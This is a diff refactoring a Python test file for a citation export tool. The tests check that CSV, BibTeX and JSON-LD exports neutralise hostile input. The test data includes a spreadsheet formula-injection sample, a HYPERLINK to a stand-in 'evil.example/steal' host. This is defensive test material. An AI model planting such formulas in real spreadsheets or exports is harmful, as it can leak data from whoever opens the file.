@@ -17,8 +17,7 @@ from typer.testing import CliRunner
 
 from kb.cli import app
 from kb.read import export
-from kb.read.export import Citation
-from tests.test_export import FORMULA_START, parse_pybtex
+from tests.test_export import FORMULA_START, make_citation, parse_pybtex
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/steal","click")',
@@ -31,34 +30,12 @@ FORMULAS = [
 CSV_TEXT_COLUMNS = ["claim", "speaker", "outlet", "authors", "title", "url", "warc_file", "warc_record_id"]
 
 
-def _citation(**kw) -> Citation:
-    base = dict(
-        claim_id=7,
-        claim_text="Rates will rise.",
-        speaker="Ann Lee",
-        char_start=0,
-        char_end=16,
-        outlet="Daily Example",
-        authors=["Ann Lee"],
-        title="Rates",
-        published_at=None,
-        url="http://news.example/rates",
-        accessed_at=None,
-        text_sha256="a" * 64,
-        capture_sha256="b" * 64,
-        warc_file="w.warc.gz",
-        warc_offset=0,
-        warc_record_id="<urn:uuid:1>",
-    )
-    return Citation(**{**base, **kw})
-
-
 # -- CSV ----------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_export_csv_neutralises_formula_cells(formula):
-    c = _citation(
+    c = make_citation(
         claim_text=formula,
         speaker=formula,
         outlet=formula,
@@ -78,7 +55,7 @@ def test_export_csv_neutralises_formula_cells(formula):
 
 
 def test_export_csv_leaves_ordinary_cells_alone():
-    c = _citation(claim_text="Rates rose 2% - or -3 by some counts", title="'Quoted' title", authors=["A", "=B"])
+    c = make_citation(claim_text="Rates rose 2% - or -3 by some counts", title="'Quoted' title", authors=["A", "=B"])
     (row,) = csv.DictReader(io.StringIO(export.to_csv([c]), newline=""))
     assert row["claim"] == c.claim_text and row["title"] == c.title and row["authors"] == "A; =B"
     assert row["claim_id"] == "7" and row["char_end"] == "16" and row["url"] == c.url
@@ -99,7 +76,7 @@ BRACE_BREAKERS = [
 
 @pytest.mark.parametrize("title", BRACE_BREAKERS)
 def test_export_bibtex_braces_stay_inside_the_field(title):
-    c = _citation(title=title, claim_text=title, speaker=title, authors=[title, "Ann Lee"])
+    c = make_citation(title=title, claim_text=title, speaker=title, authors=[title, "Ann Lee"])
     text = export.to_bibtex([c])
     for entries in (parse_pybtex(text), export.parse_bibtex(text)):  # BibTeX's own rules, then bibtexparser's
         assert len(entries) == 1, text
@@ -130,7 +107,7 @@ EMBED_HOSTILE = [
 @pytest.mark.parametrize("fmt", ["claimreview", "csl-json"])
 @pytest.mark.parametrize("claim", EMBED_HOSTILE)
 def test_export_json_escapes_what_ends_a_script_element(fmt, claim):
-    c = _citation(claim_text=claim, title=claim, speaker=claim, authors=[claim])
+    c = make_citation(claim_text=claim, title=claim, speaker=claim, authors=[claim])
     text = export.render([c], fmt)
     for ch in "<>&\u2028\u2029":
         assert ch not in text
@@ -143,7 +120,7 @@ def test_export_json_escapes_what_ends_a_script_element(fmt, claim):
 def test_export_hostile_csl_json_round_trips_through_citeproc(title):
     """The escaped CSL-JSON a reference manager imports renders through citeproc-py with the
     title as the page wrote it (escaping is for the embedding, not a change to the data)."""
-    c = _citation(title=title)
+    c = make_citation(title=title)
     item = json.loads(export.to_csl_json([c]))[0]
     assert item["title"] == title
     assert title.strip() in export.reference(c)
@@ -160,7 +137,7 @@ def test_export_claimreview_embedded_in_a_page_runs_no_script():
     no script of the claim runs, and the JSON the page reads is the claim as said."""
     from playwright.sync_api import sync_playwright
 
-    claims = [_citation(claim_id=i + 1, claim_text=t, title=t, speaker=t) for i, t in enumerate(EMBED_HOSTILE)]
+    claims = [make_citation(claim_id=i + 1, claim_text=t, title=t, speaker=t) for i, t in enumerate(EMBED_HOSTILE)]
     jsonld = export.to_claimreview(claims)
     page_html = (
         "<!doctype html><html><head><title>check</title>"
